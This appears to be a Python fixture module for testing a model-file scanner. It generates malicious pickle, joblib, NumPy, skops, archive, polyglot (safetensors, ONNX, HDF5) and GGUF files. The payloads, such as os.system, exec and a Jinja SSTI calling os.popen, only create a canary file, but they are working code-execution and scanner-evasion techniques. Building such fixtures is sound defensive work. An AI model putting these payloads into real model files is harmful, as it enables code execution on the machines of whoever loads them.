"""Hostile files: each one runs its payload (creating its canary, nothing else) under its usual loader.

Built by code, by hand-written opcodes as often as by ``pickle.dumps``, across issue 14's classes
(deliverable 1): plain pickles at protocols 0-5, CPython parsing quirks, severity by effect, joblib
as joblib writes it, NumPy, skops with its untrusted types trusted, archives (zip, tar, tar.gz, tar.xz,
tar.bz2, nested), torch-style zips, decoy ``data.pkl`` members, polyglots (HDF5 user block, safetensors,
ONNX), swallowing opcodes, appended objects and a GGUF chat template. :data:`HOSTILE` lists them;
:mod:`._runner` proves each one.
"""

from __future__ import annotations

import builtins
import io
import json
import lzma
import os
import pickle
import struct
import subprocess
import zipfile
import zlib
from pathlib import Path
from typing import Any

import numpy as np

from ._entry import Entry, Proof, R, canary_for, g0, s0, shell_touch, tar_bytes, u4, zip_bytes

__all__ = ["HOSTILE"]

# The fixes: issue 14, deliverable 1, bullet N; these two branches carry them.
_WHERE = "fixed on h/pickle or h/formats"


def _rc(n: int) -> str:
    return f"root cause {n} of issue 14, {_WHERE}"


class RC(R):
    """An ``R`` whose result is called again (``R(RC(f, a), b)`` pickles as ``f(a)(b)``)."""

    def __call__(self, *args: Any) -> Any:  # pragma: no cover - never called, only pickled
        raise AssertionError("payload objects are only pickled")


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def _code(path: Path) -> str:
    """Python source that creates the canary."""
    return f"open({str(canary_for(path))!r}, 'w').close()"


def _system(path: Path, protocol: int = 2) -> bytes:
    return pickle.dumps(R(os.system, shell_touch(path)), protocol=protocol)


def _object_array(path: Path) -> np.ndarray:
    arr = np.empty(1, dtype=object)
    arr[0] = R(os.system, shell_touch(path))
    return arr


def _npy(arr: np.ndarray) -> bytes:
    buf = io.BytesIO()
    np.save(buf, arr, allow_pickle=True)
    return buf.getvalue()


def _joblib(obj: Any) -> bytes:
    import joblib

    buf = io.BytesIO()
    joblib.dump(obj, buf)
    return buf.getvalue()


def _npy_raw(header: str, body: bytes, major: int = 1) -> bytes:
    preamble = 10 if major == 1 else 12
    pad = -(preamble + len(header) + 1) % 64
    text = (header + " " * pad + "\n").encode("latin-1")
    size = struct.pack("<H", len(text)) if major == 1 else struct.pack("<I", len(text))
    return b"\x93NUMPY" + bytes([major, 0]) + size + text + body


# -- plain pickles, protocols 0-5 ---------------------------------------------------------------


def _p0_system(path: Path) -> Path:
    return _write(path, g0("os", "system") + b"(" + s0(shell_touch(path)) + b"tR.")


def _p1_inst_exec(path: Path) -> Path:
    # INST: MARK, arguments, then `i module\nname\n` calls name(*arguments).
    return _write(path, b"}(" + s0(_code(path)) + b"ibuiltins\nexec\n0.")


def _p2_subprocess(path: Path) -> Path:
    return _write(path, pickle.dumps(R(subprocess.call, ["touch", str(canary_for(path))]), protocol=2))


def _p3_open_write(path: Path) -> Path:
    obj = {"weights": [0.5, 1.5], "hook": R(builtins.open, str(canary_for(path)), "w")}
    return _write(path, pickle.dumps(obj, protocol=3))


def _p4_eval_framed(path: Path) -> Path:
    return _write(path, pickle.dumps(R(builtins.eval, _code(path)), protocol=4))


def _p5_nested(path: Path) -> Path:
    obj = {"layers": [np.arange(3.0), {"deep": [(1, R(os.system, shell_touch(path)))]}]}
    return _write(path, pickle.dumps(obj, protocol=5))


# -- pickle parsing as CPython does it ------------------------------------------------------------


def _int_base0(path: Path) -> Path:
    # INT and LONG take base-0 literals (int(text, 0)): a parser that says "not a number" stops here.
    lead = b"I0x10\n0I0o17\n0L0b101L\n0"
    return _write(path, lead + g0("os", "system") + b"(" + s0(shell_touch(path)) + b"tR.")


def _escaped_names(path: Path) -> Path:
    # STACK_GLOBAL's names come from STRING operands, whose escapes the unpickler decodes first.
    return _write(path, b"S'o\\x73'\nS'sys\\x74em'\n\x93(" + s0(shell_touch(path)) + b"tR.")


# -- severity by effect -------------------------------------------------------------------------


def _ext1(path: Path) -> Path:
    # copyreg.add_extension registers os.system as code 240; EXT1 240 then fetches it.
    register = g0("copyreg", "add_extension") + b"(" + s0("os") + s0("system") + b"I240\ntR0"
    return _write(path, register + b"\x82\xf0(" + s0(shell_touch(path)) + b"tR.")


def _ext4(path: Path) -> Path:
    code = struct.pack("<i", 0x12345)
    register = b"\x80\x02ccopyreg\nadd_extension\n" + u4("posix") + u4("system") + b"J" + code + b"\x87R0"
    return _write(path, register + b"\x84" + code + u4(shell_touch(path)) + b"\x85R.")


def _globals_os(operator_module: str) -> bytes:
    """Protocol 0: ``itemgetter('os')(attrgetter('read.__globals__')(NumpyArrayWrapper))``, the os module
    reached from an allow-listed class through attribute and item getters."""
    get_globals = g0(operator_module, "attrgetter") + b"(" + s0("read.__globals__") + b"tR"
    globals_ = get_globals + b"(" + g0("joblib.numpy_pickle", "NumpyArrayWrapper") + b"tR"
    return g0(operator_module, "itemgetter") + b"(" + s0("os") + b"tR(" + globals_ + b"tR"


def _attrgetter(path: Path) -> Path:
    system = g0("_operator", "attrgetter") + b"(" + s0("system") + b"tR(" + _globals_os("_operator") + b"tR"
    return _write(path, system + b"(" + s0(shell_touch(path)) + b"tR.")


def _methodcaller(path: Path) -> Path:
    caller = b"\x80\x02coperator\nmethodcaller\n" + u4("system") + u4(shell_touch(path)) + b"\x86R"
    return _write(path, caller + b"(" + _globals_os("operator") + b"tR.")


def _uvicorn(path: Path) -> Path:
    import uvicorn.importer

    obj = R(RC(uvicorn.importer.import_from_string, "os:system"), shell_touch(path))
    return _write(path, pickle.dumps(obj, protocol=3))


def _sklearn_test_helper(path: Path) -> Path:
    from sklearn.utils._testing import assert_run_python_script_without_output

    return _write(path, pickle.dumps(R(assert_run_python_script_without_output, _code(path)), protocol=4))


def _numpy_runstring(path: Path) -> Path:
    from numpy.testing._private.utils import runstring

    return _write(path, pickle.dumps({"meta": R(runstring, _code(path), {})}, protocol=2))


def _memmap_write(path: Path) -> Path:
    obj = R(np.memmap, str(canary_for(path)), np.uint8, "w+", 0, (4,))
    return _write(path, pickle.dumps(obj, protocol=5))


def _appended_pickle(path: Path) -> Path:
    first = pickle.dumps({"epoch": 3, "lr": 0.01}, protocol=4)
    return _write(path, first + g0("os", "system") + b"(" + s0(shell_touch(path)) + b"tR.")


def _appended_zip(path: Path) -> Path:
    # pickle.load reads the first object; zipfile finds the zip appended after it (its directory is at the end).
    first = pickle.dumps({"epoch": 3}, protocol=2)
    return _write(path, first + zip_bytes([("model.pkl", _system(path, 4))]))


def _torch_legacy(path: Path) -> Path:
    parts: list[Any] = [
        0x1950A86A20F9469CFC6C,
        1001,
        {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}},
    ]
    head = b"".join(pickle.dumps(p, protocol=2) for p in parts)
    return _write(path, head + _system(path, 2) + pickle.dumps([], protocol=2))


# -- joblib as joblib writes it -------------------------------------------------------------------


class _NonSeekable(io.RawIOBase):
    def __init__(self) -> None:
        self.buf = bytearray()

    def writable(self) -> bool:
        return True

    def write(self, data: Any) -> int:
        self.buf += bytes(data)
        return len(data)

    def tell(self) -> int:
        raise io.UnsupportedOperation("not seekable")

    def seekable(self) -> bool:
        return False


def _joblib_nonseekable(path: Path) -> Path:
    import joblib

    out = _NonSeekable()
    joblib.dump({"w": np.arange(10.0), "b": np.ones(3, dtype=np.int32), "hook": R(os.system, shell_touch(path))}, out)
    return _write(path, bytes(out.buf))


class _Inline:
    def __init__(self, wrapper: Any, raw: bytes) -> None:
        self.wrapper = wrapper
        self.raw = raw


class _JoblibWriter(pickle._Pickler):  # type: ignore[name-defined,misc]
    """Writes an array wrapper followed by its inline data, the way joblib's NumpyPickler does."""

    def save(self, obj: Any, save_persistent_id: bool = True) -> None:
        if isinstance(obj, _Inline):
            super().save(obj.wrapper)
            self.write(obj.raw)
            return
        super().save(obj, save_persistent_id)


def _joblib_reduce_fields(path: Path) -> Path:
    from joblib.numpy_pickle import NumpyArrayWrapper

    wrapper = NumpyArrayWrapper.__new__(NumpyArrayWrapper)
    wrapper.__dict__.update(
        subclass=np.ndarray,
        shape=R(tuple, [1]),
        order=R(str, "C"),
        dtype=R(np.dtype, "O"),
        allow_mmap=R(bool, 0),
        numpy_array_alignment_bytes=None,
    )
    buf = io.BytesIO()
    inline = _Inline(wrapper, pickle.dumps(_object_array(path), protocol=2))
    _JoblibWriter(buf, protocol=2).dump({"coef": inline})
    return _write(path, buf.getvalue())


def _joblib_ndarray_wrapper(path: Path) -> Path:
    from joblib.numpy_pickle_compat import NDArrayWrapper

    sibling = path.with_name(path.name + "_01.npy")
    sibling.write_bytes(_npy(_object_array(path)))
    return _write(path, pickle.dumps({"coef": NDArrayWrapper(sibling.name, np.ndarray, allow_mmap=False)}, protocol=2))


def _joblib_lzma_small_dict(path: Path) -> Path:
    plain = _joblib({"w": _object_array(path)})
    filters = [{"id": lzma.FILTER_LZMA1, "dict_size": 4096}]
    return _write(path, lzma.compress(plain, format=lzma.FORMAT_ALONE, filters=filters))


def _joblib_zf(path: Path) -> Path:
    data = pickle.dumps({"model": R(os.system, shell_touch(path))}, protocol=2)
    return _write(path, b"ZF" + hex(len(data)).encode().ljust(19) + zlib.compress(data))


def _joblib_xz(path: Path) -> Path:
    import joblib

    joblib.dump({"w": np.arange(4.0), "o": _object_array(path)}, str(path), compress=("xz", 3))
    return path


# -- NumPy ----------------------------------------------------------------------------------------


def _npy_descr_object(path: Path) -> Path:
    header = "{'descr': 'object', 'fortran_order': False, 'shape': (1,), }"
    return _write(path, _npy_raw(header, _system(path, 2)))


def _npy_structured_object(path: Path) -> Path:
    header = "{'descr': [('w', '<f8'), ('o', 'object')], 'fortran_order': False, 'shape': (1,), }"
    return _write(path, _npy_raw(header, _system(path, 3), major=2))


def _npz_object(path: Path) -> Path:
    members = [("w.npy", _npy(np.arange(3.0))), ("o.npy", _npy(_object_array(path)))]
    return _write(path, zip_bytes(members, zipfile.ZIP_DEFLATED))


# -- polyglots: judged by every loader that accepts them ------------------------------------------


def _hdf5_userblock(path: Path) -> Path:
    import h5py

    with h5py.File(path, "w", userblock_size=512) as f:
        f.create_dataset("dense/kernel", data=np.ones((2, 2), dtype=np.float32))
    payload = _system(path, 2)
    assert len(payload) <= 512
    with path.open("r+b") as fh:
        fh.write(payload)
    return path


def _safetensors_pickle(path: Path) -> Path:
    """Valid safetensors whose header length starts a BINUNICODE: ``X`` and a length byte reused as the
    header's length; SHORT_BINSTRING runs (printable, inside a metadata string) swallow the rest of the
    JSON header, and the pickle ends in the one tensor's bytes."""
    tail = b"0" + g0("os", "system") + b"(" + s0(shell_touch(path)) + b"tR."
    size = len(tail)
    prefix = f'{{"t":{{"dtype":"U8","shape":[{size}],"data_offsets":[0,{size}]}},"__metadata__":{{"k":"'.encode()
    start = 8 + len(prefix)  # where the BINUNICODE string ends: the first opcode inside the JSON string
    b1 = start - 5
    assert 4 <= b1 <= 255
    n = 0x58 + 256 * b1
    rest = 8 + n - start
    chunks = -(-rest // 129)
    q, r = divmod(rest - 3 * chunks, chunks)
    sizes = [q + 1] * r + [q] * (chunks - r)
    assert all(32 <= k <= 126 and k not in (34, 92) for k in sizes)
    value = b"".join(b"0U" + bytes([k]) + b"a" * k for k in sizes)
    header = prefix + value[:-3] + b'"}}'
    assert len(header) == n
    json.loads(header)
    return _write(path, struct.pack("<Q", n) + header + tail)


def _onnx_unknown_field(path: Path) -> Path:
    """PROTO 2 reads as field 32 (varint ``N``); ``J`` as field 9 (bytes) whose body the pickle runs in."""
    import onnx
    from onnx import TensorProto, helper

    node = helper.make_node("Relu", ["x"], ["y"])
    graph = helper.make_graph(
        [node],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)]).SerializeToString()
    # BININT reads the field's two length bytes and the body's first two; the body pops both values.
    body = b"\x00\x0000" + g0("posix", "system") + b"(" + s0(shell_touch(path)) + b"tR."
    body = body.ljust(128)  # a two-byte length varint, whatever the payload's length
    varint = bytes([0x80 | (len(body) & 0x7F), len(body) >> 7])
    data = b"\x80\x02N\x4a" + varint + body + model
    onnx.load_model_from_string(data)
    return _write(path, data)


# -- archives and their members -------------------------------------------------------------------


def _tar_plain(path: Path) -> Path:
    members = [("model/config.json", b'{"arch": "mlp"}'), ("model/weights.pkl", _p1_bytes(path))]
    return _write(path, tar_bytes(members))


def _p1_bytes(path: Path) -> bytes:
    return b"(" + s0(_code(path)) + b"ibuiltins\nexec\n."


def _tar_gz(path: Path) -> Path:
    members = [("README.md", b"# model\n"), ("model.joblib", _joblib({"w": _object_array(path)}))]
    return _write(path, tar_bytes(members, "w:gz"))


def _tar_xz(path: Path) -> Path:
    state = {"step": 10, "opt": R(os.system, shell_touch(path))}
    return _write(path, tar_bytes([("ckpt/state.pkl", pickle.dumps(state, protocol=4))], "w:xz"))


def _tar_bz2(path: Path) -> Path:
    return _write(path, tar_bytes([("arrays/o.npy", _npy(_object_array(path)))], "w:bz2"))


def _zip_deflated(path: Path) -> Path:
    members = [("weights.bin", pickle.dumps(R(builtins.exec, _code(path)), protocol=1))]
    return _write(path, zip_bytes(members, zipfile.ZIP_DEFLATED))


def _zip_nested(path: Path) -> Path:
    inner = zip_bytes([("m.pkl", _system(path, 3))])
    return _write(path, zip_bytes([("notes.txt", b"v2"), ("inner.zip", inner)], zipfile.ZIP_DEFLATED))


def _torch_files(data_pkl: bytes, extra: list[tuple[str, bytes]] | None = None) -> list[tuple[str, bytes]]:
    return [
        ("archive/data.pkl", data_pkl),
        ("archive/byteorder", b"little"),
        ("archive/version", b"3\n"),
        *(extra or [("archive/data/0", np.ones(4, dtype=np.float32).tobytes())]),
    ]


def _torch_zip(path: Path) -> Path:
    from collections import OrderedDict

    state = OrderedDict(weight=1.0, _metadata=R(os.system, shell_touch(path)))
    return _write(path, zip_bytes(_torch_files(pickle.dumps(state, protocol=2))))


def _decoy_storage(path: Path) -> Path:
    # A harmless data.pkl makes the zip look like a torch checkpoint; its "storage" is a pickle.
    files = _torch_files(pickle.dumps({"w": 1}, protocol=2), [("archive/data/0", _system(path, 2))])
    return _write(path, zip_bytes(files))


def _decoy_npy(path: Path) -> Path:
    members = [("x/data.pkl", pickle.dumps([], protocol=2)), ("arrays/w.npy", _npy(_object_array(path)))]
    return _write(path, zip_bytes(members))


def _skops_schema(node: dict[str, Any]) -> bytes:
    """A skops file holding a dict whose "hook" value is ``node``, written by skops, then edited."""
    import skops.io

    with zipfile.ZipFile(io.BytesIO(skops.io.dumps({"coef": [1.0, 2.0], "hook": "x"}))) as zf:
        schema = json.loads(zf.read("schema.json"))
    schema["content"]["hook"] = node
    return json.dumps(schema).encode()


def _skops_call(module: str, name: str, arg: str) -> dict[str, Any]:
    text = {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": json.dumps(arg)}
    args = {
        "__class__": "tuple",
        "__module__": "builtins",
        "__loader__": "TupleNode",
        "content": [text | {"is_json": True, "__id__": 7}],
    }
    return {
        "__class__": name,
        "__module__": module,
        "__loader__": "ConstructorFromReduceNode",
        "content": args | {"__id__": 8},
        "__id__": 9,
    }


def _decoy_skops(path: Path) -> Path:
    members = [
        ("schema.json", _skops_schema(_skops_call("os", "system", shell_touch(path)))),
        ("a/data.pkl", pickle.dumps(0, protocol=2)),
    ]
    return _write(path, zip_bytes(members, zipfile.ZIP_DEFLATED))


def _skops_system(path: Path) -> Path:
    return _write(
        path,
        zip_bytes(
            [("schema.json", _skops_schema(_skops_call("os", "system", shell_touch(path))))], zipfile.ZIP_DEFLATED
        ),
    )


def _skops_nested_exec(path: Path) -> Path:
    import skops.io
    from sklearn.linear_model import LogisticRegression

    model = LogisticRegression().fit([[0.0], [1.0], [2.0], [3.0]], [0, 0, 1, 1])
    with zipfile.ZipFile(io.BytesIO(skops.io.dumps(model))) as zf:
        members = {n: zf.read(n) for n in zf.namelist()}
    schema = json.loads(members["schema.json"])
    attrs = schema["content"]
    attrs["content"]["_hook"] = _skops_call("builtins", "exec", _code(path))
    attrs["key_types"]["content"].append(
        {"__class__": "str", "__module__": "builtins", "__loader__": "TypeNode", "__id__": 11}
    )
    members["schema.json"] = json.dumps(schema).encode()
    return _write(path, zip_bytes(list(members.items()), zipfile.ZIP_DEFLATED))


# -- a first opcode that swallows a whole archive -------------------------------------------------


def _binbytes_zip(path: Path) -> Path:
    inner = bytearray(zip_bytes([("model.pkl", _system(path, 2))]))
    assert inner[-22:-18] == b"PK\x05\x06"
    inner[-2:] = struct.pack("<H", 1)  # the zip comment is the pickle's STOP
    return _write(path, b"\x80\x03B" + struct.pack("<I", len(inner)) + bytes(inner) + b".")


def _binbytes_tar(path: Path) -> Path:
    tar = bytearray(tar_bytes([("model.pkl", _system(path, 2)), ("config.json", b"{}")]))
    tar[:7] = b"\x80\x03B" + struct.pack("<I", len(tar) - 7)
    tar[148:156] = b" " * 8
    tar[148:155] = b"%06o\0" % sum(tar[:512])
    return _write(path, bytes(tar) + b".")


# -- GGUF -----------------------------------------------------------------------------------------


def gguf_bytes(template: str) -> bytes:
    """GGUF v3 with no tensors and three string metadata values (type 8)."""
    kvs = [("general.architecture", "llama"), ("general.name", "tiny"), ("tokenizer.chat_template", template)]
    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(kvs))
    for key, value in kvs:
        k, v = key.encode(), value.encode()
        out += struct.pack("<Q", len(k)) + k + struct.pack("<I", 8) + struct.pack("<Q", len(v)) + v
    return out


def _gguf_ssti(path: Path) -> Path:
    ssti = "{{ lipsum.__globals__['os'].popen(" + repr(shell_touch(path)) + ").read() }}"
    template = "{% for m in messages %}<|{{ m.role }}|>{{ m.content }}{% endfor %}" + ssti
    return _write(path, gguf_bytes(template))


_P = Proof("pickle")
_C = True

HOSTILE: tuple[Entry, ...] = (
    Entry("p0_os_system.pkl", "pickle protocol 0", _p0_system, _P),
    Entry("p1_inst_exec.pkl", "pickle protocol 1 (INST)", _p1_inst_exec, _P),
    Entry("p2_subprocess_call.pkl", "pickle protocol 2", _p2_subprocess, _P),
    Entry("p3_open_write.pickle", "pickle protocol 3", _p3_open_write, _P),
    Entry("p4_eval_framed.pkl", "pickle protocol 4 (framed)", _p4_eval_framed, _P),
    Entry("p5_nested.pkl", "pickle protocol 5 (nested)", _p5_nested, _P),
    Entry("int_base0.pkl", "CPython parsing: INT/LONG base 0", _int_base0, _P),
    Entry("escaped_names.pkl", "CPython parsing: escaped STRING names", _escaped_names, _P),
    Entry("copyreg_ext1.pkl", "severity: copyreg.add_extension + EXT1", _ext1, _P),
    Entry("copyreg_ext4.pkl", "severity: copyreg.add_extension + EXT4", _ext4, _P),
    Entry("operator_attrgetter.pkl", "severity: _operator.attrgetter to os", _attrgetter, _P),
    Entry("operator_methodcaller.pkl", "severity: operator.methodcaller on os", _methodcaller, _P),
    Entry("uvicorn_importer.pkl", "severity: uvicorn import_from_string", _uvicorn, _P),
    Entry(
        "sklearn_test_helper.pkl",
        "severity: test helper running a subprocess",
        _sklearn_test_helper,
        _P,
    ),
    Entry("numpy_runstring.pkl", "severity: numpy test helper exec", _numpy_runstring, _P),
    Entry("numpy_memmap_w.pkl", "severity: numpy.memmap mode w+", _memmap_write, _P),
    Entry("appended_pickle.pkl", "appended second pickle", _appended_pickle, Proof("pickle_all")),
    Entry(
        "appended_zip.pkl",
        "appended zip after a pickle",
        _appended_zip,
        Proof("zip", "model.pkl", "pickle"),
    ),
    Entry("torch_legacy.pt", "appended pickles (legacy torch.save)", _torch_legacy, Proof("pickle_all")),
    Entry(
        "joblib_nonseekable.joblib",
        "joblib: non-seekable, alignment None",
        _joblib_nonseekable,
        Proof("joblib"),
    ),
    Entry(
        "joblib_reduce_fields.joblib",
        "joblib: REDUCE-built wrapper fields",
        _joblib_reduce_fields,
        Proof("joblib"),
    ),
    Entry(
        "joblib_ndarraywrapper.pkl",
        "joblib: NDArrayWrapper filename",
        _joblib_ndarray_wrapper,
        Proof("joblib"),
    ),
    Entry(
        "joblib_lzma_4k.joblib",
        "joblib: lzma-alone, 4 KiB dictionary",
        _joblib_lzma_small_dict,
        Proof("joblib"),
    ),
    Entry("joblib_zf.pkl", "joblib: pre-0.9.3 ZF format", _joblib_zf, Proof("joblib")),
    Entry("joblib_xz.joblib.xz", "joblib: xz, object array", _joblib_xz, Proof("joblib")),
    Entry(
        "npy_descr_object.npy",
        "polyglot: .npy descr 'object'",
        _npy_descr_object,
        Proof("numpy"),
    ),
    Entry(
        "npy_struct_object.npy",
        "polyglot: .npy v2 structured 'object' field",
        _npy_structured_object,
        Proof("numpy"),
    ),
    Entry("npz_object.npz", "numpy: .npz object member", _npz_object, Proof("numpy")),
    Entry(
        "hdf5_userblock.h5",
        "polyglot: pickle in HDF5 user block",
        _hdf5_userblock,
        _P,
    ),
    Entry(
        "safetensors_pickle.safetensors",
        "polyglot: safetensors + pickle",
        _safetensors_pickle,
        _P,
    ),
    Entry("onnx_unknown_field.onnx", "polyglot: pickle in unknown ONNX field", _onnx_unknown_field, _P),
    Entry("tar_member.tar", "tar member (protocol 1)", _tar_plain, Proof("tar", "model/weights.pkl", "pickle")),
    Entry("targz_joblib.tar.gz", "tar.gz member (joblib)", _tar_gz, Proof("tar", "model.joblib", "joblib")),
    Entry("tarxz_pickle.tar.xz", "tar.xz member (pickle)", _tar_xz, Proof("tar", "ckpt/state.pkl", "pickle")),
    Entry("tarbz2_npy.tar.bz2", "tar.bz2 member (npy)", _tar_bz2, Proof("tar", "arrays/o.npy", "numpy")),
    Entry("zip_deflated.zip", "zip member, deflated", _zip_deflated, Proof("zip", "weights.bin", "pickle")),
    Entry("zip_nested.zip", "zip in zip", _zip_nested, Proof("zip", "inner.zip", "zip:m.pkl:pickle")),
    Entry("torch_zip.pt", "torch-style zip, payload in data.pkl", _torch_zip, Proof("torch", "archive/data.pkl")),
    Entry(
        "decoy_storage.pt",
        "decoy data.pkl: pickle as storage",
        _decoy_storage,
        Proof("zip", "archive/data/0", "pickle"),
    ),
    Entry("decoy_npy.zip", "decoy data.pkl: object .npy", _decoy_npy, Proof("zip", "arrays/w.npy", "numpy")),
    Entry(
        "decoy_skops.skops",
        "decoy data.pkl: skops schema",
        _decoy_skops,
        Proof("skops"),
    ),
    Entry("skops_os_system.skops", "skops, os.system trusted", _skops_system, Proof("skops")),
    Entry("skops_nested_exec.skops", "skops, exec nested in an estimator", _skops_nested_exec, Proof("skops")),
    Entry(
        "binbytes_zip.pkl",
        "BINBYTES swallowing a zip",
        _binbytes_zip,
        Proof("zip", "model.pkl", "pickle"),
    ),
    Entry(
        "binbytes_tar.tar",
        "BINBYTES swallowing a tar",
        _binbytes_tar,
        Proof("tar", "#0", "pickle"),
    ),
    Entry("gguf_ssti.gguf", "GGUF chat template (Jinja SSTI)", _gguf_ssti, Proof("gguf")),
)
